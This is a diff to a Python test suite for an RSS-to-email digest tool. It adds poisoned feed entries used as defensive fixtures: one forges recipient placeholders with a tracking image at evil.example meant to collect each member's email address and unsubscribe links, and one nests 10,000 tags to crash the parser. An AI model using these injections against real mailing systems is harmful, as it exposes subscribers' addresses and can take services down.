@@ -66,6 +66,7 @@ class Poison:
     shown_title: str | None = None  # in the HTML and text parts, after cleaning
     shown_text: str | None = None  # in the text part
     shown_html: str | None = None  # in the HTML part, as written there (escaped)
+    leaks: tuple[str, ...] = ()  # after these, no member's own address or link may follow
 
 
 def _json_feed() -> bytes:
@@ -113,6 +114,20 @@ POISONS = {
         rss(GOOD, rss_entry("<![CDATA[End ]]]]><![CDATA[> marker]]>", "bad",
                             "<![CDATA[<p>before ]]]]><![CDATA[> after <![CDATA[x</p>]]>")),
         shown_title="End ]]> marker", shown_text="before ]]> after"),
+    # The per-recipient markers, forged in a feed: a tracking image that would collect every
+    # member's address, text that would show their unsubscribe link (whose token acts).
+    "placeholder-markers": Poison(
+        rss(GOOD, rss_entry("Dear %%NAME%% news", "bad",
+                            '&lt;p&gt;&lt;img src="https://evil.example/p.gif?e=%%EMAIL%%"&gt;'
+                            "Unsubscribe at %%UNSUBSCRIBE_URL%% or %%PREFERENCES_URL%%"
+                            "&lt;/p&gt;")),
+        shown_text="Unsubscribe at %", leaks=("p.gif?e=", "Unsubscribe at ", "news")),
+    # 10 000 nested elements (70 KB): mjml-python's parser overflows its stack and the
+    # process dies (SIGSEGV), which no exception handler can catch.
+    "deep-nesting": Poison(
+        rss(GOOD, rss_entry("Deep", "bad", "&lt;p&gt;" + "&lt;b&gt;" * 10_000 + "Deep text"
+                            + "&lt;/b&gt;" * 10_000 + "&lt;/p&gt;")),
+        shown_title="Deep", shown_text="Deep text"),
     "bidi-overrides": Poison(
         rss(GOOD, rss_entry("Safe\u202etxt.exe\u202c title \u2066isolated\u2069", "bad",
                             "Pay \u202eaccount 0123\u202c now \u2067x\u2069")),
@@ -193,6 +208,13 @@ def test_a_poisoned_entry_never_blocks_the_edition(tmp_path: Path, server: FeedS
             assert poison.shown_text in plain
         if poison.shown_html:
             assert poison.shown_html in html_text
+        member = message.rcpt_tos[0]
+        for before in poison.leaks:
+            for part in (html_text, html.unescape(html_text), plain):
+                for following in part.split(before)[1:]:
+                    near = following[:120]
+                    assert member not in near and "/digest/u/" not in near, near
+                    assert "/digest/p/" not in near and "Anna" not in near and "Jean" not in near
     # The feeds are XML: what would break a reader's parser is not in them either.
     atom = (tmp_path / "feeds" / "all.atom").read_text(encoding="utf-8")
     assert not FORBIDDEN.search(html.unescape(atom))
@@ -304,3 +326,38 @@ def test_digest_send_retries_a_failed_edition_after_the_fix(
         assert sent.returncode == 0, sent.stdout + sent.stderr
         assert "weekly/1: rendered, now sent; 2 sent" in sent.stdout
     assert handler.recipients() == sorted(MEMBERS)
+
+
+def test_an_edition_stranded_sending_by_an_older_version_is_sent_or_marked_failed(
+        tmp_path: Path, server: FeedServer) -> None:
+    server.feed("/feed", rss(GOOD, rss_entry("Turin panel", "turin", "Three ideas.")))
+    write_project(tmp_path, f'  - {{id: news, type: feed, url: "{server.url("/feed")}"}}')
+    with smtp_server() as (handler, url):
+        env = {"DIGEST_SMTP_URL": url}
+        handler.mail_answer = "451 4.3.0 try again later"  # the edition stays sending
+        first = run_digest(tmp_path, "run", "--once", now=MONDAY, env=env)
+        assert "weekly/1: 0 refused, 2 deferred" in first.stdout, first.stdout
+        # What an older version stored for the reported entry: raw controls in the text.
+        with sqlite3.connect(tmp_path / "var" / "digest.db") as connection:
+            connection.execute("UPDATE items SET title = title || char(1),"
+                               " summary_html = '<p>x' || char(11) || '&#1; y</p>'")
+        template = tmp_path / "templates" / "email" / "_item.mjml.j2"
+        template.parent.mkdir(parents=True)
+        template.write_text(BROKEN_ITEM)
+        handler.mail_answer = None
+        broken = run_digest(tmp_path, "run", "--once", now="2019-03-18T10:00:00+01:00",
+                            env=env)
+        assert broken.returncode == 1 and "weekly/1: cannot be rendered" in broken.stdout
+        status = run_digest(tmp_path, "status", now=MONDAY, env=env).stdout
+        assert "weekly/1 [failed] Weekly: 2 pending" in status and "_item.mjml.j2:1" in status
+        assert handler.accepted == []
+        template.unlink()
+        fixed = run_digest(tmp_path, "run", "--once", now="2019-03-18T11:00:00+01:00",
+                           env=env)
+        assert fixed.returncode == 0, fixed.stdout + fixed.stderr
+        assert "weekly/1 [sent] Weekly: 2 sent" in run_digest(
+            tmp_path, "status", now=MONDAY, env=env).stdout
+    assert handler.recipients() == sorted(MEMBERS)
+    for message in handler.accepted:
+        assert_clean(message)
+        assert "x y" in parts(message)[2]
